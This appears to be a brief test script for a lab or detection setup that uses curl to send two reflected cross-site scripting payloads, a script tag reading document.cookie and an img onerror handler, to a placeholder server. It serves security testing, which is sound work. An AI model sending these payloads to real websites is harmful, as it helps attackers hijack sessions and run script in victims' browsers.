# Cross-site scripting: a script element and an event handler in a reflected parameter.
# packages: curl nginx-light python3
web=(curl -s -G -A 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0')
from attacker "${web[@]}" --data-urlencode "q=<script>alert(document.cookie)</script>" http://$SERVER/app/tim
from attacker "${web[@]}" --data-urlencode "q=<img src=x onerror=alert(1)>" http://$SERVER/app/tim
